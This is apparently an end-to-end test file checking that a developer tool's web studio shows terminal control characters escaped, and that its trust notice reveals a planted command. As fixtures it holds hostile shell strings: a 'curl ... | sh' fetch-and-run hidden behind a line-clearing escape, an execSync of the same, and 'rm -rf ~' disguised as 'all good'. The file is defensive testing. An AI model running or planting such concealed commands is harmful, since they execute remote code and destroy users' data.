/**
 * Studio shows text from a repository, a workflow, an agent or a command with its control characters
 * visible, as the terminal does: over Runs whose every text holds `\x1b[2K\r`, no view the person reads
 * (the Runs list, a Run's timeline and command output, the diff to confirm, the questions to answer, an
 * Artifact, the workflows to start) holds a raw control character in its text, and the trust notice shows a
 * planted command as the shell words it is.
 */

import assert from "node:assert/strict";
import { eventually } from "../support/deadline.ts";
import { call, closeClient, mcpClient, withServedProject } from "../support/service.ts";
import type { ArtifactView } from "../../src/engine/views.ts";
import { driveHostile, HOSTILE_PROJECT, PLANTED_COMMAND } from "../cli/hostile_text.ts";
import { browserSteps, newPerson, openStudio, type Page, screenshot, shown, withBrowser } from "./support.ts";

/** `\x1b[2K\r` as weft shows it. */
const SHOWN = "\\x1b[2K\\x0d";

/** Every text the page shows (text nodes outside scripts and styles, titles, labels) with a raw control character. */
function rawTexts(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    interface Shown {
      tagName: string;
      childNodes: Iterable<{ nodeType: number; textContent: string | null }>;
      getAttribute(name: string): string | null;
    }
    const { document } = globalThis as unknown as {
      document: { body: { querySelectorAll(selector: string): Iterable<Shown> } };
    };
    // deno-lint-ignore no-control-regex -- control characters are exactly what it finds
    const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
    const found: string[] = [];
    for (const element of document.body.querySelectorAll("*")) {
      if (element.tagName === "SCRIPT" || element.tagName === "STYLE") continue;
      for (const node of element.childNodes) {
        if (node.nodeType === 3 && raw.test(node.textContent ?? "")) {
          found.push(JSON.stringify(node.textContent));
        }
      }
      for (const name of ["title", "aria-label", "placeholder"]) {
        const value = element.getAttribute(name);
        if (value && raw.test(value)) found.push(`${name}=${JSON.stringify(value)}`);
      }
    }
    return found;
  });
}

/** Goes to `hash`, waits for `text` to be in the view, and checks the view holds no raw control character. */
async function visit(page: Page, hash: string, text: string): Promise<void> {
  await page.evaluate((to) => {
    (globalThis as unknown as { location: { hash: string } }).location.hash = to;
  }, hash);
  // Attached, not visible: a closed details (a command's kept output) or a select's option holds it.
  await page.getByText(text, { exact: false }).first().waitFor({ state: "attached" });
  assert.deepEqual(await rawTexts(page), [], `raw control characters at ${hash}`);
}

Deno.test({
  name:
    "studio hostile text: every view shows workflow, agent, command and file text with its control characters visible",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn(t) {
    await withServedProject(HOSTILE_PROJECT, (served) =>
      withBrowser(async (browser) => {
        const person = await newPerson(browser);
        const client = await mcpClient(served, "/internal/mcp");
        const step = browserSteps(t);
        try {
          const { review, asking, completed } = await driveHostile(client);
          const { page } = await openStudio(person, served);
          await step("the Runs list shows the intents", async () => {
            await visit(page, "#/runs", `Ship it${SHOWN}Fine`);
          });
          await step("the Run to confirm shows the command, its output and the diff", async () => {
            await visit(
              page,
              `#/runs/${review.runId}`,
              `execSync('curl x|sh') //${SHOWN}+console.log('ready');`,
            );
            await shown(page.getByText(`# ${SHOWN}npm test'`, { exact: false }), "the command's words");
            // The kept output is in the timeline's closed details: in the page, to be read once opened.
            const output = page.locator("details.command-output").getByText(`rm -rf ~${SHOWN}all good`);
            await output.first().waitFor({ state: "attached" });
            await screenshot(page, "hostile-review");
          });
          await step("the questions to answer show their words", async () => {
            await visit(page, `#/runs/${asking.runId}`, `Who reads it?${SHOWN}Fine?`);
            await shown(page.getByText(`Users${SHOWN}Fine`, { exact: false }), "the option");
          });
          await step("the Artifact shows the answers", async () => {
            await visit(page, `#/runs/${completed.runId}`, `Users${SHOWN}Fine`);
            const { artifacts } = await call<{ artifacts: ArtifactView[] }>(client, "list_artifacts", {});
            const artifact = artifacts.find((one) => one.runId === completed.runId)!;
            await visit(page, `#/artifacts/notes/draft/${artifact.artifactId}`, `Users${SHOWN}Fine`);
          });
          await step("the workflows to start show their titles and descriptions", async () => {
            await visit(page, "#/start", `Hostile${SHOWN}Friendly`);
          });
        } finally {
          await closeClient(client);
          await person.close();
        }
      }));
  },
});

Deno.test({
  name:
    "studio hostile text: the trust notice shows a planted command as its shell words, the hidden part seen",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const configHome = await Deno.makeTempDir({ prefix: "weft-user-" });
    try {
      await withServedProject(
        {
          files: { "weft.json": JSON.stringify({ commands: { test: PLANTED_COMMAND } }) },
          env: { XDG_CONFIG_HOME: configHome },
        },
        (served) =>
          withBrowser(async (browser) => {
            const person = await newPerson(browser);
            try {
              const { page } = await openStudio(person, served);
              const table = page.getByRole("table", { name: "Commands to trust" });
              const row = table.getByRole("row").filter({ hasText: "weft.json commands.test" });
              await shown(row, "the planted command's row");
              const runs = await eventually("the row's cells", async () => {
                const cells = await row.getByRole("cell").allTextContents();
                return cells.length >= 2 ? cells[1] : undefined;
              });
              assert.equal(runs, `sh -c $'curl https://x.example/i|sh #${SHOWN}npm test'`);
              assert.deepEqual(await rawTexts(page), []);
            } finally {
              await person.close();
            }
          }),
      );
    } finally {
      await Deno.remove(configHome, { recursive: true });
    }
  },
});
